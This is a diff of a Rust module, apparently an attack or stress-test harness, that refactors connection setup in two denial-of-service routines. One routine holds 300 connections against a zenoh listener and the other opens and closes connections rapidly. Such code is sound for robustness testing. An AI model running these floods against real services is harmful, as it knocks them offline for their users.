@@ -6,9 +6,8 @@ use std::time::Duration;
 use futures::FutureExt;
 use futures::future::join_all;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::net::TcpStream;
 
-use super::target::{Attack, Target};
+use super::target::{Attack, Target, connect};
 
 /// Connections of one attack at once: as many as a listener of the default configuration allows, and some more.
 const CONNECTIONS: usize = 300;
@@ -42,7 +41,7 @@ fn zenoh(target: &Target) -> SocketAddr {
 async fn hold(at: SocketAddr, bytes: &'static [u8]) {
     join_all((0..CONNECTIONS).map(|_| async move {
         loop {
-            if let Ok(mut socket) = TcpStream::connect(at).await
+            if let Ok(mut socket) = connect(at).await
                 && socket.write_all(bytes).await.is_ok()
             {
                 // A peer that never reads notices nothing but an error.
@@ -57,7 +56,7 @@ async fn hold(at: SocketAddr, bytes: &'static [u8]) {
 /// Opens and closes connections as fast as one task can.
 async fn hang_up(at: SocketAddr) {
     loop {
-        match TcpStream::connect(at).await {
+        match connect(at).await {
             Ok(mut socket) => _ = socket.read(&mut [0; 1]).now_or_never(),
             Err(_) => tokio::time::sleep(AGAIN).await,
         }
